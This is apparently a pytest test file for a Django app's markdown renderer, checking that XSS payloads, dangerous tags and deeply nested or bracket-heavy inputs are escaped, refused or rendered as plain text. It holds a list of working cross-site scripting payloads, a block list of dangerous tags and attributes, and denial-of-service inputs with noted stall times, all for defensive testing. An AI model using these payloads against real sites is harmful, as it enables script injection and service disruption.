import pytest
from django.core.exceptions import ValidationError

from casestudies.markdown import (
    MAX_NESTING,
    MAX_RENDER_LENGTH,
    markdown_problem,
    plain_text,
    render_markdown,
    validate_markdown,
)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![tracker](https://evil.example/pixel.png)",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<svg onload=alert(1)><circle r="1"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<p onclick="alert(1)" style="position:fixed">t</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=x><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<details open ontoggle=alert(1)>",
    '<body onload="alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
    '"><script>alert(1)</script>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

FORBIDDEN = ["<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:", "data:",
             "vbscript:", "<img", "<iframe", "<object", "<embed", "<svg", "<style", "style=", "<form",
             "<input", "<meta", "<base", "<math", "<details", "<body"]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_markdown_is_neutralised(payload):
    html = render_markdown(payload).lower()
    for needle in FORBIDDEN:
        assert needle not in html, (payload, html)


def test_ordinary_markdown_keeps_its_formatting():
    html = render_markdown("## Results\n\n**Bold** and *italic*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<h3>Results</h3>" in html  # sections already have their own h2
    assert "<strong>Bold</strong>" in html and "<em>italic</em>" in html
    assert "<li>one</li>" in html and "<td>1</td>" in html


def test_links_keep_safe_schemes_and_are_marked():
    html = render_markdown("[site](https://example.org) [mail](mailto:a@example.org) [page](/case-studies/)")
    assert 'href="https://example.org"' in html
    assert 'href="mailto:a@example.org"' in html
    assert 'href="/case-studies/"' in html
    assert html.count('rel="noopener nofollow"') == 3


def test_plain_text_strips_markup():
    assert plain_text("**Hello** [there](https://example.org) <b>x</b>") == "Hello there x"


# Hostile input: the two payloads that broke or stalled pages before rendering was bounded.
DEEP_LIST = "- " * 500 + "deep"  # RecursionError inside Python-Markdown
NESTED_BRACKETS = "[" * 4000 + "](" * 4000  # quadratic rescanning: about 10 s unbounded


@pytest.mark.parametrize("payload", [DEEP_LIST, NESTED_BRACKETS, "> " * 3000 + "quote", "<a " * 5000])
def test_hostile_structure_renders_as_plain_escaped_text(payload):
    html = render_markdown(payload)
    assert html.startswith("<p>")
    assert "<ul>" not in html and "<a " not in html and "<blockquote>" not in html
    assert plain_text(payload)  # search snippets and emails survive it too


def test_validator_refuses_deep_nesting_with_a_clear_message():
    with pytest.raises(ValidationError) as caught:
        validate_markdown(DEEP_LIST, max_length=20_000)
    assert f"up to {MAX_NESTING} levels deep" in caught.value.messages[0]
    assert "500 levels" in caught.value.messages[0]


def test_validator_refuses_nested_brackets():
    with pytest.raises(ValidationError) as caught:
        validate_markdown(NESTED_BRACKETS, max_length=20_000)
    assert "too many brackets" in caught.value.messages[0]


def test_validator_refuses_text_over_the_length():
    with pytest.raises(ValidationError) as caught:
        validate_markdown("a" * 101, max_length=100)
    assert caught.value.messages == ["Shorten this to 100 characters or fewer (it has 101)."]


def test_validator_accepts_ordinary_nesting_and_brackets():
    text = "- a\n    - b (see [the report](https://example.org) (2021))\n        > quoted\n\n\\[" * 30
    validate_markdown(text, max_length=20_000)
    assert "<ul>" in render_markdown(text)


def test_nesting_at_the_limit_still_renders_as_markdown():
    at_limit = "- " * MAX_NESTING + "x"
    validate_markdown(at_limit, max_length=100)
    assert render_markdown(at_limit).count("<ul>") == MAX_NESTING
    over = "- " * (MAX_NESTING + 1) + "x"
    assert "<ul>" not in render_markdown(over)


def test_link_whose_href_was_removed_keeps_only_its_text():
    html = render_markdown('[click](javascript:alert(1)) [ok](https://example.org) <abbr title="x">NHS</abbr>')
    assert "<a>" not in html and "<a " in html
    assert html.count("<a ") == 1 and "click" in html
    assert '<abbr title="x">NHS</abbr>' in html


@pytest.mark.parametrize("payload", [
    "\\<a " * 4000,  # a backslash does not escape < for Python-Markdown: 7 s unbounded
    "\\\\[" * 4000,  # an escaped backslash leaves the [ open
    "[x](" * 4000,
    "![" * 4000,  # 16 s unbounded
])
def test_escapes_do_not_hide_open_brackets(payload):
    assert markdown_problem(payload) is not None
    assert "<a " not in render_markdown(payload)


def test_escaped_brackets_are_text_not_structure():
    assert markdown_problem("\\[" * 100 + "\\(" * 100) is None


def test_text_longer_than_the_render_limit_is_plain():
    html = render_markdown("**bold** " * (MAX_RENDER_LENGTH // 9 + 1))
    assert "<strong>" not in html and html.startswith("<p>**bold**")
